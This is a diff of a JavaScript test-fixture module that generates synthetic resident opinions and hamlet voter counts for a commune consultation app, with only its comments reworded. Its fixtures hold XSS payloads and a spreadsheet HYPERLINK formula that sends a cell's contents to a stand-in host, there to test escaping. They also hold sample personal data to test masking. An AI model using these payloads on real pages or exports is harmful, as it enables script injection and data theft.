@@ -1,8 +1,8 @@
-// What residents say in these tests, and what follows from it: made from a seed, counted here, apart from the system.
+// The residents' opinions in these tests, generated from a seed, and an independent recount of them.
 
 export const xuan_chinh = "kim-son-xuan-chinh", binh_minh = "kim-son-binh-minh";
 
-/** Hamlets of the sample pack and how many voters each lists, as its authors wrote them. */
+/** Hamlets of the sample pack and their numbers of listed voters. */
 export const hamlets = [
   ["xuan-thien-1", "Thôn 1", 342], ["xuan-thien-2", "Thôn 2", 318], ["xuan-thien-3", "Thôn 3", 297],
   ["xuan-thien-4", "Thôn 4", 355], ["xuan-thien-5", "Thôn 5", 281], ["xuan-thien-6", "Thôn 6", 333],
@@ -16,7 +16,7 @@ export const reasons = ["papers", "office-far", "school", "clinic", "land", "all
 export const names = ["xuan-chinh", "xuan-thien", "chinh-tam", "other", "no-opinion"];
 export const ages = ["18-34", "35-59", "60-74", "75-up"];
 
-/** Words that must stay words wherever they are shown or downloaded. */
+/** Markup and formulas that must stay plain text in pages and downloads. */
 export const hostile = {
   script: "<script>alert('remark')</script><img src=x onerror=alert('picture')>",
   formula: '=HYPERLINK("https://example.invalid/?"&A1,"bấm vào đây")',
@@ -26,13 +26,13 @@ export const hostile = {
   name: "\"><svg onload=alert('name')>",
 };
 
-/** Remarks as people write them; some tell who somebody is. */
+/** Realistic remarks; some contain personal data. */
 export const personal = {
   phone: "Trụ sở mới xa nhà tôi. Ai có việc xin gọi 0912 345 678 để tôi nói rõ thêm.",
   id: "Giấy tờ đổi ở đâu? Căn cước của tôi là 037085001234.",
   name: "Nhờ ông Nguyễn Văn Đức họp thôn lại, bà con chưa rõ.",
 };
-/** The same in a download, until a person decides otherwise. */
+/** The same remarks in a download, masked until an official decides. */
 export const masked = {
   [personal.phone]: "Trụ sở mới xa nhà tôi. Ai có việc xin gọi [đã che] để tôi nói rõ thêm.",
   [personal.id]: "Giấy tờ đổi ở đâu? Căn cước của tôi là [đã che].",
@@ -79,7 +79,7 @@ function answers_of(random) {
   return answers;
 }
 
-/** Opinions given in one unit's hall; the last hamlet of Chính Tâm stays small on purpose. */
+/** Opinions from one unit's kiosk; the last hamlet of Chính Tâm is kept small on purpose. */
 export function opinions(seed, count, unit) {
   const random = stream(seed);
   const here = hamlets.filter(h => h.unit === unit && h.id !== "chinh-tam-6");
@@ -102,7 +102,7 @@ function one_of(unit, hamlet, answers) {
   };
 }
 
-/** A few that matter: hostile words, personal data, and a hamlet with three people. */
+/** Special opinions: hostile texts, personal data, and a hamlet with three people. */
 export function special() {
   const remark = text => one_of("xuan-thien", "xuan-thien-1", {stance: "disagree", name: "xuan-chinh", remark: text});
   return [
@@ -127,7 +127,7 @@ export function elsewhere(count) {
 
 const none = () => ({listed: 0, took_part: 0, agree: 0, disagree: 0, other: 0, remarks: 0});
 
-/** The recount: plain counting over what was sent. */
+/** Recounts what was sent. */
 export function recount(sent) {
   const total = none(), by_hamlet = {}, by_unit = {}, by_day = {}, options = {};
   for (const {id, unit, listed} of hamlets) {
